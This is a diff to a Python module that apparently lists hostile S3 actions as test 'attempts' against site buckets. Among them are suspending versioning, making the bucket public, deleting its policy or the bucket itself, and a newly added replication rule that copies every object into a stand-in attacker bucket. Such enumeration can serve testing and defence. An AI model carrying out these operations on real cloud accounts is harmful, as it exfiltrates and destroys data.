@@ -101,6 +101,11 @@ def _on_the_bucket(site: SiteName) -> Iterator[Attempt]:
             "put_bucket_versioning",
             {"VersioningConfiguration": {"Status": "Suspended"}},
         ),
+        "have S3 copy elsewhere what is written into": (
+            "put_bucket_replication",
+            {"ReplicationConfiguration": _elsewhere()},
+        ),
+        "end the copies of what is written into": ("delete_bucket_replication", {}),
         "open to everybody": ("put_bucket_policy", {"Policy": json.dumps(everybody)}),
         "take the policy from": ("delete_bucket_policy", {}),
         "delete": ("delete_bucket", {}),
@@ -113,3 +118,15 @@ def _on_the_bucket(site: SiteName) -> Iterator[Attempt]:
             getattr(s3, operation)(Bucket=spoils.bucket(site), **arguments)
 
         yield Attempt(what=f"{what} {{site}}'s bucket", service="s3", site=site, act=change)
+
+
+def _elsewhere() -> dict[str, Any]:
+    """Rules by which S3 copies everything into a bucket of the thief's."""
+    rule = {
+        "Status": "Enabled",
+        "Priority": 1,
+        "Filter": {"Prefix": ""},
+        "DeleteMarkerReplication": {"Status": "Disabled"},
+        "Destination": {"Bucket": "arn:aws:s3:::of-the-thief"},
+    }
+    return {"Role": "arn:aws:iam::123456789012:role/of-the-thief", "Rules": [rule]}
